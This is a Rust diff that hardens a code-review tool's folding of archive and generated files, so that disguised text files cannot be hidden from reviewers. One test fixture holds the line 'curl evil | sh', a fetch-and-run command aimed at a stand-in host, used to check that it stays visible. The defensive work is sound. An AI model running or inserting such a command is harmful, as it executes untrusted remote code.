@@ -50,7 +50,12 @@ pub(super) fn fold(path: &str, before: Option<&[u8]>, after: Option<&[u8]>) -> O
     let (kind, what) = if let Some(what) = archive(bytes) {
         (MeaningKind::Archive, what)
     } else {
-        (MeaningKind::Generated, generated(path, bytes)?)
+        let what = generated(path, bytes)?;
+        // A file that becomes generated is shown: anyone can write the mark into it, and lines after it.
+        if let Some(before) = before {
+            generated(path, before)?;
+        }
+        (MeaningKind::Generated, what)
     };
     let sizes = [before, after].map(|side| side.map(|bytes| size(bytes.len() as u64)));
     let sizes = match sizes {
@@ -64,6 +69,10 @@ pub(super) fn fold(path: &str, before: Option<&[u8]>, after: Option<&[u8]>) -> O
 }
 
 fn archive(bytes: &[u8]) -> Option<&'static str> {
+    // A text that begins like an archive is a text: a shell would run the rest of it.
+    if !bytes[..bytes.len().min(8_000)].contains(&0) {
+        return None;
+    }
     let known = ARCHIVES.iter().find(|(first, _)| bytes.starts_with(first));
     let tar = || (bytes.get(TAR_MARK) == Some(b"ustar")).then_some("a tar archive");
     known.map(|(_, what)| *what).or_else(tar)
@@ -96,7 +105,12 @@ mod tests {
         let one_line = "x".repeat(20_000);
         let marked = format!("// @generated\n{long}");
         let rows = [
-            ("a.txt", "PK\x03\x04rest", "it is a ZIP archive of 8 bytes"),
+            (
+                "a.txt",
+                "PK\x03\x04\0rest",
+                "it is a ZIP archive of 9 bytes",
+            ),
+            ("a.sh", "BZh=1\ncurl evil | sh\n", ""),
             (
                 "a.min.js",
                 long.as_str(),
